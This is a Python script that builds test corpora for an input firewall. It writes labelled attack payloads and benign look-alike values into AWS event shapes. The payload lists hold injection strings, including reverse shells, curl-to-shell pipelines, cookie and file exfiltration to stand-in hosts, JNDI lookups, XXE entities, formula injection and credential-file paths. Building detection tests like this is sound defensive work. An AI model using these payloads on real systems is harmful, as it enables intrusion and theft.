#!/usr/bin/env python3
"""Builds the input firewall's corpora (written by the project, no third-party
rule or payload lists): attacks.jsonl (one {"class", "payload", "shape",
"event"} per line: each payload of each class, with case, comment, encoding
and whitespace variants, embedded in events of every shape the walker knows)
and benign.jsonl (realistic events whose values carry apostrophes, prose,
markdown, code in comments, SQL-ish words and HTML fields).
Run: /usr/bin/python3 test/corpus/payload/gen.py  (deterministic)."""
import base64, json, os, random, urllib.parse

R = random.Random(16)
HERE = os.path.dirname(os.path.abspath(__file__))

SQL = [
    "' OR '1'='1", "' or 1=1--", "admin'--", "admin' #", "admin'/*", "1 OR 1=1", "1' OR '1'='1' -- ",
    "' UNION SELECT NULL,NULL,NULL--", "-1 UNION SELECT username, password FROM users", "1; DROP TABLE users",
    "'; DROP TABLE orders;--", "1' AND SLEEP(5)#", "1 AND SLEEP(5)", "' AND 1=CONVERT(int,@@version)--",
    "'; WAITFOR DELAY '0:0:5'--", "\" OR \"\"=\"", "') OR ('1'='1", "1)) OR ((1=1", "' OR 'x'='x",
    "1' ORDER BY 3--+", "' GROUP BY columnnames having 1=1 --", "' AND extractvalue(1,concat(0x7e,version()))--",
    "1' AND updatexml(1,concat(0x7e,(SELECT user())),1)--", "'||pg_sleep(10)--", "' || '1'='1",
    "1'/**/OR/**/1=1--", "' oR 1=1 #", "%27%20OR%201%3D1--", "' UNION ALL SELECT table_name FROM information_schema.tables--",
    "1 UNION/**/SELECT/**/1,2,3", "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--", "1; SELECT pg_sleep(5)",
    "' AND (SELECT COUNT(*) FROM users) > 0 --", "x' AND 1=(SELECT 1 FROM dual)--", "' or true--",
    "1 or true", "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
    "1' AND BENCHMARK(5000000,MD5(1))#", "' UNION SELECT @@version,NULL#", "1'; INSERT INTO users VALUES('x','y');--",
    "'; UPDATE users SET role='admin' WHERE name='bob';--", "' OR username LIKE '%", "'=0--+",
    "1' and '1'='1", "1 AnD 1=1", "' or ''='", "1 /*!50000UNION*/ SELECT 1,2", "\") or (\"a\"=\"a",
    "999999.9 union all select 0x31303235343830303536", "' and 1 in (select min(name) from sysobjects)--",
    "1' INTO OUTFILE '/var/www/x.php'--", "'+(select load_file('/etc/passwd'))+'",
]
NOSQL = [
    "{\"$ne\": null}", "{\"$gt\": \"\"}", "{\"$regex\": \".*\"}", "{\"$where\": \"sleep(5000)\"}",
    "'; return true; var x='", "' || '1'=='1", "this.password.match(/.*/)//", "{\"$nin\": [\"a\"]}",
    "{\"username\": {\"$ne\": \"x\"}, \"password\": {\"$ne\": \"x\"}}", "1; return this.role == 'admin'",
    "'; while(true){}; '", "{$ne: 1}", "[$ne]=1", "true, $where: '1 == 1'", "{\"$or\": [{}, {\"a\": 1}]}",
    "'; sleep(5000); '", "{\"$exists\": true}", "{\"$expr\": {\"$eq\": [1, 1]}}", "this.constructor.constructor('return process')()",
    "db.users.find()", "' && this.password.length > 0 && '", "{\"$function\": {\"body\": \"x\"}}",
]
CMD = [
    "; id", "| id", "&& whoami", "|| uname -a", "; cat /etc/passwd", "`whoami`", "$(whoami)", "; ls -la /",
    "127.0.0.1; ping -c 3 10.0.0.1", "x|nc 10.0.0.1 4444 -e /bin/sh", "; curl http://evil.example/x.sh | sh",
    "; wget http://evil.example/a -O /tmp/a", "a;cat${IFS}/etc/passwd", "; sleep 10", "|sleep 5",
    "& ping -n 5 127.0.0.1 &", "\nid\n", "; w'h'o'am'i", "; /bin/cat /etc/shadow", "$(cat /etc/passwd)",
    "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "|| ls", "; echo $PATH", "`id`", "; rm -rf /tmp/x",
    "file.txt; python3 -c 'import os'", "; nslookup evil.example", "| base64 /etc/passwd", "&&ifconfig",
    "; printenv", "a && curl -d @/etc/passwd http://x.example", "%0aid", "; busybox nc 1.2.3.4 5 -e sh",
    "$(sleep 5)", "; powershell -c Get-Process", "| type C:\\windows\\win.ini", "; wh\\oami", "a|/usr/bin/id",
]
CODE = [
    "__import__('os').system('id')", "{{7*7}}", "{{config.__class__.__init__.__globals__['os']}}",
    "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://x.example/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
    "require('child_process').exec('id')", "process.mainModule.require('child_process')",
    "eval(\"require('fs')\")", "<?php system($_GET['c']); ?>", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "T(java.lang.Runtime).getRuntime().exec('id')",
    "';eval(String.fromCharCode(97))//", "\";system('id');//", "exec('import os')", "phpinfo()",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "${T(java.lang.System).getenv()}", "{% import os %}{{ os.popen('id').read() }}", "os.system('ls')",
    "subprocess.check_output(['id'])", "Runtime.getRuntime().exec(\"id\")", "{{constructor.constructor('return process')()}}",
    "*{T(java.lang.Runtime).getRuntime()}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
    "#set($x=$class.inspect(\"java.lang.Runtime\"))", "!!python/object/apply:os.system ['id']",
    "${jndi:dns://x.example}", "${env:AWS_SECRET_ACCESS_KEY}", "{{self._TemplateReference__context}}",
]
XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\"><script>alert(document.cookie)</script>",
    "<ScRiPt>alert(1)</sCrIpT>", "javascript:alert(1)", "<a href=\"javascript:alert(1)\">x</a>", "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\">", "'-alert(1)-'", "<details open ontoggle=alert(1)>", "<img src=x:x onerror=\"alert(1)\">",
    "<svg><script>alert(1)</script></svg>", "\" onmouseover=\"alert(1)", "<input autofocus onfocus=alert(1)>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "<a href=\"jav&#x09;ascript:alert(1)\">", "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<embed src=\"javascript:alert(1)\">",
    "<video><source onerror=\"alert(1)\">", "<marquee onstart=alert(1)>", "\";alert(1);//", "</script><script>alert(1)</script>",
    "<div style=\"background:url(javascript:alert(1))\">", "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">", "  JaVaScRiPt:alert(1)", "<img src=1 onerror=fetch('//x.example?c='+document.cookie)>",
    "<form action=\"javascript:alert(1)\"><input type=submit>", "<base href=\"javascript:/a/-alert(1)///\">", "<svg onload=alert`1`>",
]
XXE = [
    "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
    "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><x/>",
    "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"http://evil.example/r.dtd\"><r/>",
    "<!DOCTYPE data [<!ENTITY a PUBLIC \"-//x//y\" \"http://evil.example/e\">]><data>&a;</data>",
    "<!doctype foo [<!entity xxe system \"php://filter/convert.base64-encode/resource=index.php\">]><foo>&xxe;</foo>",
    "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n <!ENTITY lol2 \"&lol;&lol;&lol;\">\n]>\n<lolz>&lol2;</lolz>",
    "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///proc/self/environ\">]><svg>&x;</svg>",
    "<!DOCTYPE   foo   [   <!ENTITY   bar   SYSTEM   \"expect://id\"   >  ]><foo>&bar;</foo>",
]
LFI = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "....//....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%2f..%2f..%2fetc%2fshadow", "php://filter/convert.base64-encode/resource=index.php",
    "file:///etc/passwd", "/proc/self/environ", "../../../../etc/passwd%00.png", "..%252f..%252f..%252fetc%252fpasswd",
    "C:\\Windows\\System32\\drivers\\etc\\hosts", "/var/task/lambda_function.py", "../../.env", "zip://uploads/a.zip#shell.php",
    "phar://uploads/x.phar", "expect://id", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==", "..;/..;/etc/passwd",
    "/proc/self/fd/0", "images/../../../etc/hosts", "....\\\\....\\\\boot.ini", "/root/.ssh/id_rsa", "~/.aws/credentials",
    "/var/run/secrets/kubernetes.io/serviceaccount/token", "..%c0%af..%c0%afetc/passwd", "file:/etc/passwd",
]
CSV = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")", "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x.example/?\",A2),\"//a\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)", "\t=1+1", "\r=cmd|'/c calc'!A1", "=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "+cmd|'/c powershell IEX(wget 0r.pe/p)'!A0", "=IMAGE(\"http://evil.example/t.png\")", "@HYPERLINK(\"http://x.example\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "-cmd|' /C notepad'!'A1'", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    " =2+5+cmd|' /C calc'!A0", "=INDIRECT(\"A1\")", "=concatenate(A1,B1)",
]
CLASSES = {"sql_injection": SQL, "nosql_injection": NOSQL, "command_injection": CMD, "code_injection": CODE,
           "xss": XSS, "xxe": XXE, "local_file_inclusion": LFI, "csv_injection": CSV}


def variants(cls, p):
    out = [p]
    if cls in ("sql_injection", "xss", "command_injection") and p.lower() != p:
        out.append(p.swapcase() if cls != "command_injection" else p)
    if cls == "sql_injection":
        out.append(p.replace(" ", "/**/") if " " in p else p)
        out.append(p.replace(" ", "\t"))
    if cls in ("xss", "local_file_inclusion", "command_injection", "sql_injection"):
        out.append(urllib.parse.quote(p, safe=""))
    return list(dict.fromkeys(out))


def rid():
    return "%08x-%04x-%04x-%04x-%012x" % (R.getrandbits(32), R.getrandbits(16), R.getrandbits(16), R.getrandbits(16), R.getrandbits(48))


def apigw_v1_query(v):
    return {"resource": "/items", "path": "/items", "httpMethod": "GET", "headers": {"Accept": "application/json", "User-Agent": "Mozilla/5.0"},
            "queryStringParameters": {"q": v, "page": "1"}, "multiValueQueryStringParameters": {"q": [v], "page": ["1"]},
            "pathParameters": None, "requestContext": {"requestId": rid(), "stage": "prod"}, "body": None, "isBase64Encoded": False}


def apigw_v1_form(v):
    return {"resource": "/login", "path": "/login", "httpMethod": "POST",
            "headers": {"Content-Type": "application/x-www-form-urlencoded"}, "requestContext": {"requestId": rid()},
            "body": urllib.parse.urlencode({"user": v, "remember": "on"}), "isBase64Encoded": False}


def apigw_v2_json(v):
    return {"version": "2.0", "routeKey": "POST /orders", "rawPath": "/orders", "rawQueryString": "",
            "headers": {"content-type": "application/json"}, "requestContext": {"http": {"method": "POST"}, "requestId": rid()},
            "body": json.dumps({"order": {"note": v, "qty": 2}}), "isBase64Encoded": False}


def apigw_v2_b64(v):
    body = json.dumps({"comment": v}).encode()
    return {"version": "2.0", "routeKey": "$default", "rawPath": "/c", "rawQueryString": "",
            "headers": {"content-type": "application/json"}, "requestContext": {"http": {"method": "POST"}},
            "body": base64.b64encode(body).decode(), "isBase64Encoded": True}


def fnurl_rawquery(v):
    return {"version": "2.0", "rawPath": "/search", "rawQueryString": "term=" + urllib.parse.quote_plus(v) + "&x=1",
            "headers": {"host": "abc.lambda-url.us-east-1.on.aws"}, "requestContext": {"http": {"method": "GET"}},
            "isBase64Encoded": False}


def alb(v):
    return {"requestContext": {"elb": {"targetGroupArn": "arn:aws:elasticloadbalancing:us-east-1:1:targetgroup/t/1"}},
            "httpMethod": "GET", "path": "/lookup", "queryStringParameters": {"name": urllib.parse.quote_plus(v)},
            "headers": {"host": "example.com"}, "body": "", "isBase64Encoded": False}


def header(v):
    return {"resource": "/", "path": "/", "httpMethod": "GET", "headers": {"X-Forwarded-For": "1.2.3.4", "X-Custom": v},
            "requestContext": {"requestId": rid()}, "body": None, "isBase64Encoded": False}


def cookie(v):
    return {"version": "2.0", "rawPath": "/", "rawQueryString": "", "cookies": ["session=" + urllib.parse.quote(v), "theme=dark"],
            "headers": {}, "requestContext": {"http": {"method": "GET"}}, "isBase64Encoded": False}


def sqs(v):
    return {"Records": [{"messageId": rid(), "eventSource": "aws:sqs", "body": json.dumps({"customer": {"name": v}})}]}


def sns(v):
    return {"Records": [{"EventSource": "aws:sns", "Sns": {"Type": "Notification", "Message": json.dumps({"text": v}), "Subject": "n"}}]}


def eventbridge(v):
    return {"version": "0", "id": rid(), "detail-type": "UserUpdated", "source": "app.users", "detail": {"profile": {"bio": v}}}


def kinesis(v):
    return {"Records": [{"eventSource": "aws:kinesis", "kinesis": {"partitionKey": "1", "data": base64.b64encode(json.dumps({"msg": v}).encode()).decode()}}]}


def s3(v):
    return {"Records": [{"eventSource": "aws:s3", "s3": {"bucket": {"name": "uploads"}, "object": {"key": urllib.parse.quote_plus(v), "size": 1024, "eTag": "abc"}}}]}


def plain(v):
    return {"user": {"name": "Ann", "comment": v}}


SHAPES = [apigw_v1_query, apigw_v1_form, apigw_v2_json, apigw_v2_b64, fnurl_rawquery, alb, header, cookie, sqs, sns,
          eventbridge, kinesis, s3, plain]

BENIGN_VALUES = [
    "O'Brien", "Conan O'Brien", "D'Angelo Russell", "It's a lovely day, isn't it?", "Rock 'n' roll", "Jones' or Smith's order",
    "Don't forget: the meeting is at 5 -- bring snacks", "I'll select the best one from the list and update you",
    "Please drop the table reservation for 4 people", "Union Street 12, San Francisco", "Select your size: S, M or L",
    "Order #1234 -- shipped", "The price is 5 or 6 dollars", "1 or 2 items", "me and 2 friends", "Tom & Jerry",
    "R&D department; cat lovers welcome", "Q&A session | room 3", "AT&T", "Ben & Jerry's", "50% off & free shipping",
    "# Release notes\n\n- Fixed a bug where `SELECT` in search broke\n- Added **bold** text\n",
    "```python\n# compute the total\ntotal = sum(x for x in items)  # don't eval anything\nprint(total)\n```",
    "```js\n// fetch the user\nconst res = await fetch('/api/user');\n```", "<p>Hello <b>world</b></p>",
    "<a href=\"https://example.com/docs\">docs</a>", "<img src=\"https://cdn.example.com/a.png\" alt=\"logo\">",
    "<ul><li>one</li><li>two</li></ul>", "Use a < b and c > d in the formula", "x<y && y<z", "I <3 this product",
    "https://example.com/search?q=shoes&size=10", "mailto:ann@example.com", "ann.smith+news@example.com",
    "+1 (555) 123-4567", "-5 degrees", "@ann_smith", "=)", "- first item", "+ added feature", "2024-06-01T12:00:00Z",
    "../images/logo.png", "docs/guide.md", "/users/123/profile", "C# and F# are languages", "SELECT * FROM is a SQL idiom",
    "The union of two sets", "He said \"yes\" or \"no\"", "'quoted' text", "5' 11\" tall", "My name is O'Neil and I'm 42",
    "Price: $5 (incl. tax)", "{\"nested\": \"json\"}", "Where is $where? Not here.", "This is great!!! 10/10 would buy again",
    "Temperature: 20-25°C", "Meeting notes: discuss budget; follow up with legal", "Ping me when you're ready",
    "Cat food; dog food; bird seed", "echo chamber is a term", "Find us at 5th & Main", "sleep well and eat healthy",
    "Call me at 9; or email", "Comment: // TODO refactor later", "/* block comment in a snippet */", "email--at--example",
    "a=b&c=d", "key: value", "H2O + CO2 -> H2CO3", "f(x) = x^2 + 1", "Dear Sir or Madam,", "A|B testing results",
    "and/or", "yes; no", "See section 3.2 (page 14)", "Ünïcödé tëxt ✓", "日本語のテキスト", "emoji 🎉🎉",
    "user's guide, chapter 1", "I'd like 2 or 3 more", "Hello {{name}}, welcome!", "Total: ${price}", "Use {braces}",
    "Python's import statement", "I require assistance", "the system (as designed) works", "eval of the results is pending",
    "Notes: updated the docs; id card renewal next week", "O'Reilly Media", "L'Oréal", "Shaquille O'Neal",
    "It was 1=1 in the draw", "score: 2-1", "a-b-c", "--verbose", "C:\\Users\\ann\\Documents\\report.docx",
    "<div class=\"note\">Remember to <em>save</em></div>", "<table><tr><td>1</td></tr></table>", "<br/>",
    "Sign up & save 20%", "What's new?", "rm -rf is dangerous, never run it", "The script ran fine", "javascript is fun",
    "<h1>Title</h1>\n<p>Paragraph with a <a href=\"/x\">link</a>.</p>", "Use `ls -la` to list files", "SELECT name FROM products",
    "I love ../ paths in docs", "null", "true", "0", "-1", "3.14", "", " ", "N/A", "admin", "password123",
]


def benign_events():
    evs = []
    for v in BENIGN_VALUES:
        for f in SHAPES:
            evs.append((f.__name__, v, f(v)))
    # realistic whole events
    for i in range(120):
        name = R.choice(["Ann O'Neil", "Bob", "María José", "Zoë D'Arcy", "Li Wei", "Sam & Co"])
        evs.append(("order", name, {"orderId": i, "customer": {"name": name, "email": "x%d@example.com" % i,
                    "address": "%d Main St; Apt 4" % i}, "items": [{"sku": "A-%d" % i, "qty": i % 5 + 1, "note": R.choice(BENIGN_VALUES)}],
                    "total": round(R.random() * 100, 2)}))
    return evs


def main():
    with open(os.path.join(HERE, "attacks.jsonl"), "w") as out:
        for cls, pays in CLASSES.items():
            for p in pays:
                for v in variants(cls, p):
                    for f in SHAPES:
                        out.write(json.dumps({"class": cls, "payload": v, "shape": f.__name__, "event": f(v)}) + "\n")
    with open(os.path.join(HERE, "benign.jsonl"), "w") as out:
        for shape, v, ev in benign_events():
            out.write(json.dumps({"class": "benign", "payload": v, "shape": shape, "event": ev}) + "\n")


if __name__ == "__main__":
    main()
